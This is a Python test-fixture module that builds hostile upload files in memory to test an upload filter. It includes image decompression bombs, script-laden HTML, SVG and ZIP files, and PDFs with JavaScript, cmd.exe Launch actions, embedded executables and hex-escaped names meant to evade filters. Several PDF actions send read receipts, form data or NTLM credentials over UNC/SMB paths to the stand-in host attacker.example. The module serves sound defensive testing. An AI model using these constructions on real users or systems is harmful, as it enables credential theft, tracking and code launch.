"""Hostile uploads, built in memory: polyglots, wrong magic, bombs, active PDFs, scripts.

Each builder returns bytes. PAYLOAD marks what must never reach storage when a file is
accepted after re-encoding.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.factories import pdf_bytes

PAYLOAD = b"WORKPRO-ATTACK-PAYLOAD"
HTML = b"<html><body><script>alert('" + PAYLOAD + b"')</script></body></html>"


def jpeg(size=(400, 500), color=(90, 140, 200)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, format="JPEG")
    return buffer.getvalue()


def png(size=(400, 500)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (250, 250, 250)).save(buffer, format="PNG")
    return buffer.getvalue()


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.html", HTML)
        archive.writestr("META-INF/MANIFEST.MF", b"Main-Class: " + PAYLOAD)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width: int, height: int) -> bytes:
    """A PNG header claiming `width` × `height` pixels, with a few bytes of image data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024, 9)) + _png_chunk(b"IEND", b""))


def jpeg_bomb(width: int = 65000, height: int = 65000) -> bytes:
    """A small JPEG whose frame header (SOF0) claims a huge size."""
    data = bytearray(jpeg(size=(16, 16)))
    marker = data.index(b"\xff\xc0")
    data[marker + 5:marker + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_with_text_chunk() -> bytes:
    data = png()
    end = data.rindex(b"IEND") - 4
    return data[:end] + _png_chunk(b"tEXt", b"Comment\x00" + HTML) + data[end:]


def jpeg_with_comment() -> bytes:
    data = jpeg()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + data[2:]


def _raw_pdf(catalog_extra: bytes, *, extra_objects: bytes = b"", page_extra: bytes = b"",
             objects: tuple[bytes, ...] = ()) -> bytes:
    """A minimal one-page PDF with a correct xref table; `catalog_extra` goes into the catalog, `page_extra`
    into the page (object 3), and `objects` become objects 4, 5, ... (in the xref table)."""
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
        *objects,
    )
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    body += extra_objects
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return body


def pdf_javascript_open_action() -> bytes:
    return _raw_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert('" + PAYLOAD + b"')) >>")


def pdf_javascript_hex_names() -> bytes:
    """The same, with the names written as #xx escapes: /J#61vaScript is /JavaScript to a reader."""
    return _raw_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert('" + PAYLOAD + b"')) >>")


def pdf_javascript_in_names_tree() -> bytes:
    return _raw_pdf(b"/Names << /J#61v#61Script << /Names [(a) << /S /J#61vaScript /J#53 (app.alert(1)) >>] >> >>")


def pdf_page_additional_action() -> bytes:
    """JavaScript run when the page opens (/AA on the page, not the catalog)."""
    return _raw_pdf(b"", page_extra=b"/AA << /O << /S /J#61vaScript /J#53 (app.alert(1)) >> >>")


def pdf_launch_action() -> bytes:
    return _raw_pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>")


def pdf_embedded_file() -> bytes:
    return _raw_pdf(b"/Names << /Embedded#46iles << /Names [(evil.exe) 4 0 R] >> >>",
                    extra_objects=b"4 0 obj\n<< /Type /Filespec /F (evil.exe) >>\nendobj\n")


# --- actions that run by themselves or leave the document (#15) -----------------------------------
# A UNC path in a PDF string: backslashes doubled. A reader following it sends the Windows login (NTLM)
# to that host.
UNC = rb"(\\\\attacker.example\\share\\vertrag.pdf)"


def pdf_page_aa_uri() -> bytes:
    """A web address fetched when the page opens (page-level /AA, open event): a read receipt."""
    return _raw_pdf(b"", page_extra=b"/AA << /O << /S /URI /URI (https://attacker.example/opened) >> >>")


def pdf_page_aa_gotor_unc() -> bytes:
    """Another PDF on a network share opened when the page closes (page /AA, close event)."""
    return _raw_pdf(b"", page_extra=b"/AA << /C << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>")


def pdf_page_aa_gotor_hex_names() -> bytes:
    """The same with #xx-escaped names (/A#41 is /AA, /GoT#6fR is /GoToR) and the action in its own object."""
    return _raw_pdf(b"", page_extra=b"/A#41 << /O 4 0 R >>",
                    objects=(b"<< /S /GoT#6fR /F " + UNC + b" /D [0 /Fit] >>",))


def pdf_document_aa() -> bytes:
    """Document-level /AA (before closing) with a web address."""
    return _raw_pdf(b"/AA << /WC << /S /URI /URI (https://attacker.example/closed) >> >>")


def pdf_open_action_uri() -> bytes:
    return _raw_pdf(b"/OpenAction << /S /URI /URI (https://attacker.example/opened) >>")


def pdf_open_action_goto_then_uri() -> bytes:
    """An /OpenAction that first goes to the page, then (/Next) to a web address."""
    return _raw_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://attacker.example/) >> >>")


def _pdf_with_annotation(annotation: bytes) -> bytes:
    return _raw_pdf(b"", page_extra=b"/Annots [4 0 R]",
                    objects=(b"<< /Type /Annot /Subtype /Link /Rect [50 50 250 80] /Border [0 0 0] "
                             + annotation + b" >>",))


def pdf_link(action: bytes) -> bytes:
    """A link annotation whose /A (run when clicked) is `action`."""
    return _pdf_with_annotation(b"/A " + action)


def pdf_widget_aa_uri() -> bytes:
    """A form field (widget) that calls a web address when it gets the focus (/AA /Fo)."""
    return _raw_pdf(b"/AcroForm << /Fields [4 0 R] >>", page_extra=b"/Annots [4 0 R]",
                    objects=(b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /Rect [50 50 250 80] "
                             b"/P 3 0 R /AA << /Fo << /S /URI /URI (https://attacker.example/focus) >> >> >>",))


def pdf_outline_gotor() -> bytes:
    """A bookmark (outline item) that opens a file on a network share."""
    return _raw_pdf(b"/Outlines 4 0 R", objects=(
        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (Vertrag) /Parent 4 0 R /A << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>"))


LINK_ACTIONS = {
    "uri_file": b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>",
    "uri_unc": b"<< /S /URI /URI " + UNC + b" >>",
    "uri_smb": b"<< /S /URI /URI (smb://attacker.example/share) >>",
    "uri_javascript": b"<< /S /URI /URI (javascript:alert(1)) >>",
    "uri_relative": b"<< /S /URI /URI (../../vertrag.pdf) >>",
    "gotor_unc": b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>",
    "gotor_url_filespec": b"<< /S /GoToR /F << /FS /URL /F (https://attacker.example/x.pdf) >> /D [0 /Fit] >>",
    "goto_then_gotor": b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>",
    "launch": b"<< /S /Launch /F (cmd.exe) >>",
    "gotoe": b"<< /S /GoToE /T << /R /C /N (anlage) >> >>",
    "submit_form": b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>",
    "import_data": b"<< /S /ImportData /F (daten.fdf) >>",
    "javascript": b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "rendition": b"<< /S /Rendition /OP 0 >>",
    # An article thread in another file: /F names that file, here on a network share.
    "thread_unc": b"<< /S /Thread /F " + UNC + b" /D 0 >>",
}
# What a plain document may do: a link to a web page or a mail address, a link within the document,
# an /OpenAction that shows the first page.
LINK_ACTIONS_ALLOWED = {
    "uri_https": b"<< /S /URI /URI (https://www.kita-sonnenschein.example/) >>",
    "uri_mailto": b"<< /S /URI /URI (mailto:info@kita-sonnenschein.example) >>",
    "goto": b"<< /S /GoTo /D [3 0 R /Fit] >>",
}


def pdf_open_action_first_page() -> bytes:
    return _raw_pdf(b"/OpenAction [3 0 R /Fit]")


def pdf_with_trailing(payload: bytes) -> bytes:
    return pdf_bytes() + payload


def html_with_pdf_later() -> bytes:
    return HTML + b"\n" + pdf_bytes()


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.encrypt("geheim")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


SVG = (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>"
       b"<script>alert('" + PAYLOAD + b"')</script></svg>")
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00" \
      b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
